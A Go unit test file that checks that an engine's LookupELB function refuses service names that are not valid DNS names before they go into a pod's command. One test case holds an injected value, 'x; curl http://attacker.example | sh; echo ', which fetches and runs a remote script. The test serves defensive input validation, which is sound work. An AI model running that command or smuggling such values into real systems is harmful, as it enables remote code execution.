package mutate

import (
	"strings"
	"testing"

	"github.com/inzone-io/inzone/elb"
)

// staticResolver answers every hostname with one Service.
type staticResolver elb.ServiceRef

func (r staticResolver) Resolve(string) (elb.ServiceRef, bool) { return elb.ServiceRef(r), true }

// TestLookupELBRefusesNonDNSNames checks the rendered name is a DNS name
// whatever a resolver returns: the last check before a name is written into
// a pod's command.
func TestLookupELBRefusesNonDNSNames(t *testing.T) {
	const host = "internal-orders-999.us-east-1.elb.amazonaws.com"
	for _, tt := range []struct {
		name string
		ref  elb.ServiceRef
		want string
	}{
		{"a valid name", elb.ServiceRef{Namespace: "shop", Name: "orders"}, "orders.service.prod.ddsd"},
		{"a shell command", elb.ServiceRef{Namespace: "shop", Name: "x; curl http://attacker.example | sh; echo "}, ""},
		{"a quote", elb.ServiceRef{Namespace: "shop", Name: `a"b`}, ""},
		{"a name rendering over 253 characters", elb.ServiceRef{Namespace: "shop", Name: strings.Repeat("a.", 130) + "a"}, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			cfg := DefaultConfig()
			cfg.DDSD.Env = "prod"
			e, err := NewEngine(cfg, Options{ELBs: staticResolver(tt.ref)})
			if err != nil {
				t.Fatal(err)
			}
			got, ok := e.LookupELB(host, "shop")
			if got != tt.want || ok != (tt.want != "") {
				t.Errorf("LookupELB = %q, %v; want %q", got, ok, tt.want)
			}
		})
	}
}
